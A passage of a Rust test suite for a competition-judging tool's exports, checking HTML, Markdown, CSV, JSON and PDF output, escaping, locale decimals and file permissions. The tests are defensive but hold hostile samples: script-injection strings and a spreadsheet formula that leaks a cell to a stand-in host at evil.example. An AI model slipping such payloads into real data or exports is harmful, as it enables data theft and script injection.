//! The secretariat's exports: every format checked for content on the demo session, escaping of
//! awkward names, locale decimals, and (with Chromium) the printed PDF's text.

mod common;

use std::path::Path;
use std::process::Command;

use juri::i18n::{Lang, T};
use juri::io::export::{ExportFormat, html, markdown, scores_csv, write};
use juri::model::{Session, Time};
use juri::standings::{Options, compute};

/// 17:00 on the day of the demo, after the session.
fn t0() -> Time {
    common::app::demo_day(17, 0)
}

fn demo() -> Session {
    juri::cli::demo_session(t0()).unwrap()
}

#[test]
fn html_recap_has_every_entry_juror_and_total_in_both_languages() {
    let s = demo();
    let st = compute(&s, &Options::default()).unwrap();
    for lang in [Lang::En, Lang::Id] {
        let h = html(&s, &s.audit, &st, lang, t0());
        assert!(h.starts_with("<!DOCTYPE html>"));
        assert!(h.contains(&format!("<html lang=\"{}\">", lang.code())));
        assert!(h.contains(T::XRecap.get(lang)) && h.contains(T::XMinutes.get(lang)));
        assert!(h.contains("23 November 2026"), "the day of the session");
        for e in &s.entries {
            assert!(h.contains(&format!("<b>{}</b>", e.id)), "{} missing", e.id);
        }
        for j in &s.jurors {
            assert!(h.contains(&format!("title=\"{}\">{}</th>", j.name, j.id)));
            // A signature line for each juror.
            assert!(h.contains(&format!("<div class=\"line\">{}", j.name)));
        }
        assert!(
            h.contains(&format!("{}: ", T::XName.get(lang))),
            "the chair signs too"
        );
        assert!(h.contains(T::XChair.get(lang)));
        // Every submitted juror total is in its own column, with the locale's decimal mark.
        for r in &st.rows {
            for (_, t) in &r.totals {
                let n = t.fixed(2);
                let shown = if lang == Lang::Id {
                    n.replace('.', ",")
                } else {
                    n
                };
                assert!(
                    h.contains(&format!("<td class=\"n\">{shown}</td>")),
                    "{shown}"
                );
            }
        }
        let (best, dec) = if lang == Lang::Id {
            ("89,85", ",")
        } else {
            ("89.85", ".")
        };
        assert!(h.contains(&format!("<b>{best}</b>")), "E08's score");
        assert!(h.contains(&format!("74{dec}95")) || h.contains(&format!("82{dec}90")));
        // Top-N line, conflicts, absent entry, tie-break wording, chart, fingerprint.
        assert!(h.contains(&T::CutOff.fill(lang, &["10"])));
        assert!(h.contains(T::XConflict.get(lang)));
        assert!(h.contains("E07 Desa Tangguh Bencana"));
        assert!(h.contains(&T::TieBy.fill(
            lang,
            &[s.rubric.criterion("impact").unwrap().name.get(lang.code())]
        )));
        assert!(h.contains("<svg") && h.contains("<rect"));
        let fp = juri::standings::verify::fingerprint(&s);
        assert!(h.contains(&fp), "the verify fingerprint is on the minutes");
        // Self-contained: no scripts, no links to elsewhere.
        for outside in ["<script", "http://", "https://", "<link", "@import", "url("] {
            let outside_ok = outside == "http://"
                && h.matches(outside).count()
                    == h.matches("xmlns=\"http://www.w3.org/2000/svg\"").count();
            assert!(outside_ok || !h.contains(outside), "{outside} in the recap");
        }
    }
}

#[test]
fn html_ranks_follow_the_standings_within_each_category() {
    let s = demo();
    let st = compute(&s, &Options::default()).unwrap();
    let h = html(&s, &s.audit, &st, Lang::En, t0());
    // In Kabupaten/Kota, E08 is 1st and E04/E10 share 3rd.
    let kab = h.split("<h2>Kabupaten/Kota").nth(1).unwrap();
    let pos = |id: &str| kab.find(&format!("<b>{id}</b>")).unwrap();
    assert!(pos("E08") < pos("E02") && pos("E02") < pos("E04") && pos("E10") < pos("E13"));
    assert!(kab.contains("<td class=\"n\">3</td><td class=\"entry\"><b>E04</b>"));
    assert!(kab.contains("<td class=\"n\">3</td><td class=\"entry\"><b>E10</b>"));
    // E13 is ranked on 3 of its 5 sheets: provisional.
    assert!(kab.contains("<td class=\"n\">5*</td><td class=\"entry\"><b>E13</b>"));
}

#[test]
fn awkward_names_are_escaped() {
    let mut s = demo();
    s.jurors[0].name = "Dr. <Ahli> & \"Rekan\", 'Tim'".into();
    s.entries[0].title = "Inovasi <script>alert(1)</script> & \"Kita\", Bersama".into();
    let st = compute(&s, &Options::default()).unwrap();
    let h = html(&s, &s.audit, &st, Lang::Id, t0());
    assert!(!h.contains("<script>"));
    assert!(
        h.contains("Inovasi &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Kita&quot;, Bersama")
    );
    assert!(h.contains("Dr. &lt;Ahli&gt; &amp; &quot;Rekan&quot;, &#39;Tim&#39;"));
    let csv = scores_csv(&s);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let first = rdr.records().next().unwrap().unwrap();
    assert_eq!(
        &first[1],
        "Inovasi <script>alert(1)</script> & \"Kita\", Bersama"
    );
    assert_eq!(&first[4], "Dr. <Ahli> & \"Rekan\", 'Tim'");
    let md = markdown(&s, &st, Lang::Id);
    assert!(!md.contains("<script>"));
    assert!(md.contains("Inovasi &lt;script&gt;alert(1)&lt;/script&gt; &amp; \"Kita\", Bersama"));
}

/// Texts that a spreadsheet would run as formulas, in every text field a CSV carries.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
    "+62 811 (hubungi)",
    "-1+1",
    "@SUM(A1:A9)",
    "\tCatatan",
    "\rCatatan",
];

fn with_formulas() -> Session {
    let mut s = demo();
    s.entries[0].title = FORMULAS[0].into();
    s.entries[0].institution = FORMULAS[1].into();
    s.jurors[0].name = FORMULAS[3].into();
    let e = s.entries[0].id.clone();
    let j = s.jurors[0].id.clone();
    let sh = s
        .scores
        .iter_mut()
        .find(|x| x.entry == e && x.juror == j)
        .unwrap();
    let mut keys = sh
        .values
        .keys()
        .map(str::to_string)
        .collect::<Vec<_>>()
        .into_iter();
    for f in [FORMULAS[2], FORMULAS[4], FORMULAS[5], FORMULAS[0]] {
        sh.notes.insert(keys.next().unwrap(), f.into());
    }
    // The overall comment is a row of its own in the scores CSV.
    sh.comment = "=1+1 komentar".into();
    s
}

/// Every cell of `csv` that is not a number and begins with a formula character.
fn live_formulas(csv: &str) -> Vec<String> {
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    rdr.records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err())
        .collect()
}

#[test]
fn csv_exports_are_safe_to_open_in_a_spreadsheet() {
    let s = with_formulas();
    let st = compute(&s, &Options::default()).unwrap();
    let standings = juri::io::report::render(&s, &st, juri::io::report::Format::Csv, None);
    let scores = scores_csv(&s);
    let mut sheet = Vec::new();
    juri::io::csv::write_scores(&s, &mut sheet).unwrap();
    let sheet = String::from_utf8(sheet).unwrap();
    for csv in [&standings, &scores, &sheet] {
        assert_eq!(live_formulas(csv), Vec::<String>::new(), "{csv}");
    }
    // Guarded with a leading apostrophe, which spreadsheets show as text.
    assert!(
        standings.contains("\"'=HYPERLINK(\"\"http://evil.example/"),
        "{standings}"
    );
    assert!(standings.contains(",'+62 811 (hubungi),"), "{standings}");
    assert!(scores.contains(",'@SUM(A1:A9),"), "{scores}");
    assert!(scores.contains(",'-1+1,"), "{scores}");
    assert!(scores.contains(",'=1+1 komentar"), "{scores}");
    assert!(
        scores.contains("\"'\tCatatan\"") || scores.contains(",'\tCatatan,"),
        "{scores}"
    );
    // Numbers stay numbers, negative z-scores too.
    assert!(standings.contains(",89.85,"));
    let z = Options {
        normalize: juri::standings::Normalize::Zscore,
        ..Options::default()
    };
    let zst = compute(&s, &z).unwrap();
    let zcsv = juri::io::report::render(&s, &zst, juri::io::report::Format::Csv, None);
    let mut rdr = csv::Reader::from_reader(zcsv.as_bytes());
    let negative = rdr
        .records()
        .map(Result::unwrap)
        .filter(|r| r[6].starts_with('-'))
        .count();
    assert!(negative > 0, "{zcsv}");
    // juri reads its own score CSV back as it was.
    let mut back = s.clone();
    for sh in &mut back.scores {
        sh.values = Default::default();
        sh.notes.clear();
        sh.state = juri::model::SheetState::Draft;
    }
    juri::io::csv::import_scores(&mut back, "sheet.csv", sheet.as_bytes(), true, t0()).unwrap();
    let (e, j) = (&s.entries[0].id, &s.jurors[0].id);
    assert_eq!(
        back.sheet(e, j).unwrap().notes,
        s.sheet(e, j).unwrap().notes
    );
}

#[test]
fn markdown_keeps_one_row_per_entry_whatever_the_title() {
    let mut s = demo();
    s.title = "Final\nKIPP <b>".into();
    s.entries[0].title = "Baris satu\r\nbaris | dua <script>x</script>".into();
    // A juror's note lands in the remarks after the tables: escaped there too.
    let e = s.entries[0].id.clone();
    let sh = s.scores.iter_mut().find(|x| x.entry == e).unwrap();
    sh.comment = "Bagus <script>y</script>\nbaris dua".into();
    let st = compute(&s, &Options::default()).unwrap();
    let md = markdown(&s, &st, Lang::En);
    assert!(md.contains("Bagus &lt;script&gt;y&lt;/script&gt;"), "{md}");
    assert!(md.starts_with("# Final KIPP &lt;b&gt; — "), "{md}");
    let row = md
        .lines()
        .find(|l| l.contains(&format!(" {} ", s.entries[0].id)))
        .unwrap();
    assert!(
        row.contains("| Baris satu baris \\| dua &lt;script&gt;x&lt;/script&gt; |"),
        "{row}"
    );
    assert!(!md.contains("<script>"));
    // The standings' tables, before the sensitivity's table.
    let sens = format!("## {}", T::WinSensitivity.get(Lang::En));
    let tables = md.split(&sens).next().unwrap();
    assert!(md.contains(&sens));
    let rows = tables
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| Rank"))
        .count();
    assert_eq!(rows, s.entries.len() + cutoff_lines(&md));
}

fn cutoff_lines(md: &str) -> usize {
    md.lines().filter(|l| l.contains("cut-off —")).count()
}

#[test]
fn long_csv_has_every_value_and_note() {
    let s = demo();
    let csv = scores_csv(&s);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let values: usize = s.scores.iter().map(|sh| sh.values.len()).sum();
    let comments = s.scores.iter().filter(|sh| !sh.comment.is_empty()).count();
    assert_eq!(
        rows.len(),
        values + comments,
        "one row per entry, juror and criterion with a value, and one per overall comment"
    );
    for sh in &s.scores {
        for (c, v) in &sh.values {
            let found = rows
                .iter()
                .find(|r| r[0] == sh.entry && r[3] == sh.juror && &r[5] == c)
                .unwrap();
            assert_eq!(found[6].parse::<f64>().unwrap(), *v);
            assert_eq!(&found[7], sh.notes.get(c).map_or("", String::as_str));
        }
    }
    assert!(rows.iter().any(|r| &r[8] == "draft"), "drafts are marked");
}

/// A session with a multi-line note, an overall comment on a submitted sheet and one on a draft.
fn demo_with_remarks() -> Session {
    let mut s = demo();
    let sub = s
        .scores
        .iter()
        .position(|sh| sh.state == juri::model::SheetState::Submitted)
        .unwrap();
    s.scores[sub].comment = "Strong field data; ask about the budget for 2027.".into();
    s.scores[sub].notes.insert(
        "novelty".into(),
        "First in the province\nbut copied from Bali?".into(),
    );
    let draft = s
        .scores
        .iter()
        .position(|sh| sh.state == juri::model::SheetState::Draft)
        .unwrap();
    s.scores[draft].comment = "Waiting for the video.".into();
    s
}

/// Every export format carries every note and every overall comment.
#[test]
fn every_format_carries_every_note_and_comment() {
    let s = demo_with_remarks();
    let notes: Vec<&str> = s
        .scores
        .iter()
        .flat_map(|sh| sh.notes.values().map(String::as_str))
        .collect();
    let comments: Vec<&str> = s
        .scores
        .iter()
        .map(|sh| sh.comment.as_str())
        .filter(|c| !c.is_empty())
        .collect();
    assert!(!notes.is_empty() && comments.len() >= 2);

    // CSV: the overall comment is a row of its own in the comment column.
    let csv = scores_csv(&s);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(rdr.headers().unwrap().get(9), Some("comment"));
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    for sh in s.scores.iter().filter(|sh| !sh.comment.is_empty()) {
        let row = rows
            .iter()
            .find(|r| r[0] == sh.entry && r[3] == sh.juror && &r[9] == sh.comment.as_str())
            .unwrap_or_else(|| panic!("comment of {}/{}", sh.entry, sh.juror));
        assert_eq!((&row[5], &row[6], &row[7]), ("", "", ""));
    }
    for n in &notes {
        assert!(rows.iter().any(|r| &r[7] == *n), "note {n}");
    }

    let st = compute(&s, &Options::default()).unwrap();
    for lang in [Lang::En, Lang::Id] {
        let h = html(&s, &s.audit, &st, lang, t0());
        let md = markdown(&s, &st, lang);
        assert!(h.contains(T::XRemarks.get(lang)) && md.contains(T::XRemarks.get(lang)));
        for text in notes.iter().chain(&comments) {
            assert!(h.contains(text), "html: {text}");
            let first = text.lines().next().unwrap();
            assert!(md.contains(first), "md: {text}");
        }
        assert!(md.contains("First in the province  \n  but copied from Bali?"));
        assert!(
            h.contains(&format!("({})", T::JurorDraft.get(lang))),
            "drafts are marked"
        );
    }

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("r.json");
    write(
        &s,
        &s.audit,
        &Options::default(),
        ExportFormat::Json,
        &path,
        Lang::En,
        t0(),
    )
    .unwrap();
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let remarks = v["remarks"].as_array().unwrap();
    for sh in s
        .scores
        .iter()
        .filter(|sh| !sh.comment.is_empty() || !sh.notes.is_empty())
    {
        let r = remarks
            .iter()
            .find(|r| r["entry"] == sh.entry.as_str() && r["juror"] == sh.juror.as_str())
            .unwrap();
        assert_eq!(r["comment"], sh.comment.as_str());
        for (c, n) in &sh.notes {
            assert_eq!(r["notes"][c], n.as_str());
        }
    }
    assert_eq!(
        v["standings"][0]["entry"], "E08",
        "the standings are unchanged"
    );
}

#[test]
fn write_puts_each_format_where_asked_with_plain_dots_outside_html() {
    let s = demo();
    let dir = tempfile::tempdir().unwrap();
    let opts = Options::default();
    let out = dir.path().join("hari1-standings.csv");
    let written = write(&s, &s.audit, &opts, ExportFormat::Csv, &out, Lang::Id, t0()).unwrap();
    assert_eq!(
        written,
        vec![out.clone(), dir.path().join("hari1-scores.csv")]
    );
    let standings = std::fs::read_to_string(&out).unwrap();
    assert!(
        standings.contains(",89.85,"),
        "CSV keeps dots in Bahasa Indonesia"
    );
    assert_eq!(standings.lines().count(), s.entries.len() + 1);
    let json_path = dir.path().join("r.json");
    write(
        &s,
        &s.audit,
        &opts,
        ExportFormat::Json,
        &json_path,
        Lang::Id,
        t0(),
    )
    .unwrap();
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&json_path).unwrap()).unwrap();
    assert_eq!(v["standings"][0]["entry"], "E08");
    assert_eq!(v["standings"][0]["score"], 89.85);
    let md_path = dir.path().join("r.md");
    write(
        &s,
        &s.audit,
        &opts,
        ExportFormat::Md,
        &md_path,
        Lang::En,
        t0(),
    )
    .unwrap();
    let md = std::fs::read_to_string(&md_path).unwrap();
    assert!(md.contains("## Kabupaten/Kota") && md.contains("## Perangkat Daerah Provinsi"));
    assert!(md.contains("| 1 | E08 | JEMPOL PINK |"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "recaps are private until announced");
    }
}

#[test]
fn export_command_writes_beside_the_session() {
    let dir = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        Command::new(common::BIN)
            .args(args)
            .env("JURI_HOME", dir.path())
            .output()
            .unwrap()
    };
    assert!(run(&["demo"]).status.success());
    let out = run(&["export", "demo.json", "--lang", "en"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let path = dir.path().join("demo-recap.html");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        format!("wrote {}", path.display())
    );
    assert!(
        std::fs::read_to_string(&path)
            .unwrap()
            .contains("<html lang=\"en\">")
    );
    let out = run(&[
        "export",
        "demo.json",
        "--format",
        "md",
        "-o",
        dir.path().join("x.md").to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(dir.path().join("x.md").exists());
}

const PRINT_TOOLS_HINT: &str = "apt-get install chromium poppler-utils";

/// Under CI the print test is required; elsewhere a machine with only Rust may skip it.
fn under_ci() -> bool {
    std::env::var("CI").is_ok_and(|v| v.eq_ignore_ascii_case("true") || v == "1")
}

/// The browser that prints the recap and the PDF reader that checks it, when both are installed.
fn print_tools() -> Option<&'static str> {
    let runs = |c: &str, arg: &str| {
        Command::new(c)
            .arg(arg)
            .output()
            .is_ok_and(|o| o.status.success())
    };
    let chromium = ["chromium", "chromium-browser", "google-chrome"]
        .into_iter()
        .find(|c| runs(c, "--version"))?;
    (runs("pdftotext", "-v") && runs("pdfinfo", "-v")).then_some(chromium)
}

/// Chromium prints the recap to PDF; the PDF's text shows the title, signatures and winners.
/// Runs whenever Chromium and poppler-utils are installed; required under CI (`CI=true`).
#[test]
fn the_recap_prints_to_pdf_with_chromium() {
    let Some(chromium) = print_tools() else {
        assert!(
            !under_ci(),
            "CI=true: Chromium and pdftotext are required for the print test: {PRINT_TOOLS_HINT} (.ci/run does)"
        );
        // Written past the test harness's capture so the skip is seen in a plain `cargo test`.
        use std::io::Write;
        let _ = writeln!(
            std::io::stderr().lock(),
            "the_recap_prints_to_pdf_with_chromium: SKIPPED, Chromium or pdftotext not found; to run it: {PRINT_TOOLS_HINT}"
        );
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let s = demo();
    let html_path = dir.path().join("recap.html");
    write(
        &s,
        &s.audit,
        &Options::default(),
        ExportFormat::Html,
        &html_path,
        Lang::Id,
        t0(),
    )
    .unwrap();
    let pdf = dir.path().join("recap.pdf");
    let profile = dir.path().join("profile");
    let status = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-pdf-header-footer",
            &format!("--user-data-dir={}", profile.display()),
            &format!("--print-to-pdf={}", pdf.display()),
        ])
        .arg(format!("file://{}", html_path.display()))
        .output()
        .unwrap();
    assert!(
        pdf.exists(),
        "no PDF: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let text = pdftotext(&pdf);
    assert!(text.contains("Rekapitulasi nilai"), "{text}");
    assert!(text.contains("Final KIPP Provinsi 2026"));
    assert!(text.contains("Berita acara"));
    for j in &s.jurors {
        assert!(text.contains(&j.name), "signature line of {}", j.name);
    }
    assert!(text.contains("Ketua panel"));
    // The winners of each category, with their scores in Indonesian decimals.
    assert!(text.contains("JEMPOL PINK") && text.contains("89,85"));
    assert!(text.contains("SIPANDU Gizi") && text.contains("81,00"));
    let pages = Command::new("pdfinfo").arg(&pdf).output().unwrap();
    let info = String::from_utf8_lossy(&pages.stdout);
    assert!(
        info.contains("A4") || info.contains("595."),
        "A4 pages: {info}"
    );
}

fn pdftotext(pdf: &Path) -> String {
    let out = Command::new("pdftotext")
        .args(["-layout"])
        .arg(pdf)
        .arg("-")
        .output()
        .expect("pdftotext (poppler-utils) is needed");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Without a browser on the PATH the print test skips with one line, except under CI where it fails.
#[test]
fn the_print_test_skips_without_chromium_but_fails_under_ci() {
    let empty = tempfile::tempdir().unwrap();
    let run = |ci: Option<&str>| {
        let mut cmd = Command::new(std::env::current_exe().unwrap());
        cmd.args(["the_recap_prints_to_pdf_with_chromium", "--exact"])
            .env("PATH", empty.path())
            .env_remove("CI");
        if let Some(ci) = ci {
            cmd.env("CI", ci);
        }
        cmd.output().unwrap()
    };
    let out = run(None);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert_eq!(
        err.lines().filter(|l| l.contains("SKIPPED")).count(),
        1,
        "{err}"
    );
    assert!(
        err.contains("apt-get install chromium poppler-utils"),
        "{err}"
    );
    let out = run(Some("true"));
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("CI=true"));
}

/// E13 is ranked on 3 of its 5 sheets: every export marks its rank provisional and says what the
/// mark means; with a quorum of 4 every export lists it without a rank and states the quorum.
#[test]
fn every_export_marks_provisional_ranks_and_the_quorum() {
    let s = demo();
    let st = compute(&s, &Options::default()).unwrap();
    let e13 = st.rows.iter().find(|r| r.entry == "E13").unwrap();
    assert!(e13.provisional());
    let (rank, cat_rank) = (e13.rank.unwrap(), e13.category_rank.unwrap());
    let dir = tempfile::tempdir().unwrap();
    let out = |s: &Session, f: ExportFormat, name: &str| {
        let path = dir.path().join(name);
        write(s, &s.audit, &Options::default(), f, &path, Lang::En, t0()).unwrap();
        std::fs::read_to_string(path).unwrap()
    };
    for lang in [Lang::En, Lang::Id] {
        let h = html(&s, &s.audit, &st, lang, t0());
        assert!(
            h.contains(&format!(
                "<td class=\"n\">{cat_rank}*</td><td class=\"entry\"><b>E13</b>"
            )),
            "html rank"
        );
        assert!(
            h.contains(&T::XProvisional.fill(lang, &["*"])),
            "html legend"
        );
        let md = markdown(&s, &st, lang);
        assert!(md.contains(&format!("| {rank}\\* | E13 |")), "{md}");
        assert!(md.contains(&T::WinProvisional.fill(lang, &["\\*"])), "{md}");
    }
    let csv = out(&s, ExportFormat::Csv, "p-standings.csv");
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let col = rdr
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "provisional")
        .unwrap();
    let recs: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    let row = recs.iter().find(|r| &r[2] == "E13").unwrap();
    assert_eq!((&row[0], &row[col]), (rank.to_string().as_str(), "true"));
    let json: serde_json::Value =
        serde_json::from_str(&out(&s, ExportFormat::Json, "p.json")).unwrap();
    let row = json["standings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["entry"] == "E13")
        .unwrap();
    assert_eq!(row["provisional"], true);

    let mut q = demo();
    q.quorum = Some(4);
    let st = compute(&q, &Options::default()).unwrap();
    for lang in [Lang::En, Lang::Id] {
        let h = html(&q, &q.audit, &st, lang, t0());
        assert!(
            h.contains(&T::XQuorum.fill(lang, &["4"])),
            "html states the quorum"
        );
        assert!(h.contains(&T::UnBelowQuorum.fill(lang, &["4"])));
        assert!(h.contains("<td class=\"n\">—</td><td class=\"entry\"><b>E13</b>"));
        let md = markdown(&q, &st, lang);
        assert!(md.contains(&T::XQuorum.fill(lang, &["4"])));
        assert!(md.contains("| - | E13 |") && md.contains(T::WinUnBelowQuorum.get(lang)));
    }
    let csv = out(&q, ExportFormat::Csv, "q-standings.csv");
    let e13 = csv.lines().find(|l| l.contains(",E13,")).unwrap();
    assert!(
        e13.starts_with(",,E13,") && e13.contains(",below quorum,false,"),
        "{e13}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&out(&q, ExportFormat::Json, "q.json")).unwrap();
    assert_eq!(json["quorum"], 4);
    let row = json["standings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["entry"] == "E13")
        .unwrap();
    assert_eq!(
        (&row["rank"], &row["unranked"]),
        (&serde_json::Value::Null, &serde_json::json!("below quorum"))
    );
}

/// The names in `dir`, sorted.
fn names_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[cfg(unix)]
#[test]
fn an_existing_public_recap_is_made_private_by_the_export() {
    use std::os::unix::fs::PermissionsExt;
    let s = demo();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("hari1-recap.html");
    std::fs::write(&out, "last week's recap").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    let opts = Options::default();
    write(
        &s,
        &s.audit,
        &opts,
        ExportFormat::Html,
        &out,
        Lang::En,
        t0(),
    )
    .unwrap();
    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "a recap holds every juror's marks");
    assert!(std::fs::read_to_string(&out).unwrap().contains("E08"));
}

#[test]
fn an_export_leaves_no_temp_file_behind() {
    let s = demo();
    let dir = tempfile::tempdir().unwrap();
    let opts = Options::default();
    for (format, name) in [
        (ExportFormat::Html, "r.html"),
        (ExportFormat::Csv, "r-standings.csv"),
        (ExportFormat::Md, "r.md"),
        (ExportFormat::Json, "r.json"),
    ] {
        write(
            &s,
            &s.audit,
            &opts,
            format,
            &dir.path().join(name),
            Lang::Id,
            t0(),
        )
        .unwrap();
    }
    assert_eq!(
        names_in(dir.path()),
        [
            "r-scores.csv",
            "r-standings.csv",
            "r.html",
            "r.json",
            "r.md"
        ]
    );
}

#[cfg(unix)]
#[test]
fn an_export_target_that_is_a_link_is_refused_and_its_target_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let bin = env!("CARGO_BIN_EXE_juri");
    let run = |args: &[&str]| {
        Command::new(bin)
            .args(args)
            .env("JURI_HOME", dir.path())
            .output()
            .unwrap()
    };
    assert!(run(&["demo"]).status.success());
    let target = dir.path().join("elsewhere.html");
    std::fs::write(&target, "someone else's file").unwrap();
    let link = dir.path().join("recap.html");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let before = names_in(dir.path());
    let out = run(&["export", "demo.json", "-o", link.to_str().unwrap()]);
    assert!(!out.status.success(), "an export through a link must fail");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("symbolic link"), "{err}");
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "someone else's file"
    );
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the link stays as it was"
    );
    assert_eq!(names_in(dir.path()), before, "nothing else written");
}

#[test]
fn every_typed_text_in_the_recap_and_minutes_is_escaped() {
    let mut s = demo();
    let evil = "<i>x</i> & y";
    s.title = evil.into();
    s.stage = evil.into();
    s.place = Some(evil.into());
    s.categories[0].name = evil.into();
    s.jurors[1].role = Some(evil.into());
    s.entries[2].institution = evil.into();
    let st = compute(&s, &Options::default()).unwrap();
    for lang in [Lang::En, Lang::Id] {
        let h = html(&s, &s.audit, &st, lang, t0());
        assert!(!h.contains("<i>"), "markup from typed text in the recap");
        assert!(h.matches("&lt;i&gt;x&lt;/i&gt; &amp; y").count() >= 6);
        // Bars are closed elements, so each label after one is drawn, not swallowed by it.
        assert_eq!(h.matches("<rect ").count(), h.matches("</rect>").count());
    }
}

/// The demo with the lines a plenary draws: an overall Top 10 filled by the categories'
/// quotas, two lines in one category (Top 5, then Top 3), and a passing grade of 85.
fn demo_with_lines() -> Session {
    let mut s = demo();
    s.rules.overall = Some(10);
    s.rules.pass = Some(85.0);
    for c in &mut s.categories {
        c.top_n = Some(if c.id == "Kabupaten/Kota" { 5 } else { 4 });
    }
    s.rules.lines.insert("Kabupaten/Kota".into(), vec![5, 3]);
    s
}

#[test]
fn every_export_draws_the_lines_and_the_passing_grade() {
    let s = demo_with_lines();
    let st = compute(&s, &Options::default()).unwrap();
    for lang in [Lang::En, Lang::Id] {
        let h = html(&s, &s.audit, &st, lang, t0());
        for n in ["3", "5", "4"] {
            assert!(h.contains(&T::CutOff.fill(lang, &[n])), "line {n}");
        }
        assert!(h.contains(&T::WinOverallHead.fill(lang, &["10"])));
        assert!(h.contains(&T::WinStPass.fill(lang, &["85", "1"])));
        assert!(h.contains(&format!("<td>{}</td>", T::WinPasses.get(lang))));
        let md = markdown(&s, &st, lang);
        assert!(md.contains(&T::CutOff.fill(lang, &["3"])), "{md}");
        assert!(md.contains(&T::WinStPass.fill(lang, &["85", "1"])), "{md}");
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("l.json");
    write(
        &s,
        &s.audit,
        &Options::default(),
        ExportFormat::Json,
        &path,
        Lang::En,
        t0(),
    )
    .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let inside = v["standings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["in_overall_top"] == true)
        .count();
    assert_eq!(inside, 10);
    let path = dir.path().join("l.csv");
    write(
        &s,
        &s.audit,
        &Options::default(),
        ExportFormat::Csv,
        &path,
        Lang::En,
        t0(),
    )
    .unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    assert!(csv.lines().next().unwrap().ends_with("overall_top,passes"));
}

/// The lines and the passing grade, printed by Chromium.
#[test]
fn the_recap_prints_its_lines_with_chromium() {
    let Some(chromium) = print_tools() else {
        assert!(!under_ci(), "CI=true: {PRINT_TOOLS_HINT}");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let s = demo_with_lines();
    let html_path = dir.path().join("recap.html");
    let o = Options::default();
    write(
        &s,
        &s.audit,
        &o,
        ExportFormat::Html,
        &html_path,
        Lang::Id,
        t0(),
    )
    .unwrap();
    let pdf = dir.path().join("recap.pdf");
    let profile = dir.path().join("profile");
    Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--no-pdf-header-footer",
            &format!("--user-data-dir={}", profile.display()),
            &format!("--print-to-pdf={}", pdf.display()),
        ])
        .arg(format!("file://{}", html_path.display()))
        .output()
        .unwrap();
    let text = pdftotext(&pdf);
    for want in [
        "Batas 3 besar",
        "Batas 5 besar",
        "Batas 4 besar",
        "10 besar keseluruhan",
        "Nilai batas lulus: 85 poin",
        "lulus",
    ] {
        assert!(text.contains(want), "{want}: {text}");
    }
}

#[test]
fn feedback_gives_each_scored_entry_a_page_without_jurors_names() {
    let s = demo();
    let dir = tempfile::tempdir().unwrap();
    let st = compute(&s, &Options::default()).unwrap();
    for lang in [Lang::En, Lang::Id] {
        let path = dir.path().join(format!("f-{}.html", lang.code()));
        write(
            &s,
            &s.audit,
            &Options::default(),
            ExportFormat::Feedback,
            &path,
            lang,
            t0(),
        )
        .unwrap();
        let h = std::fs::read_to_string(&path).unwrap();
        let scored = st.rows.iter().filter(|r| r.sheets > 0).count();
        assert_eq!(h.matches("<section class=\"entry\">").count(), scored);
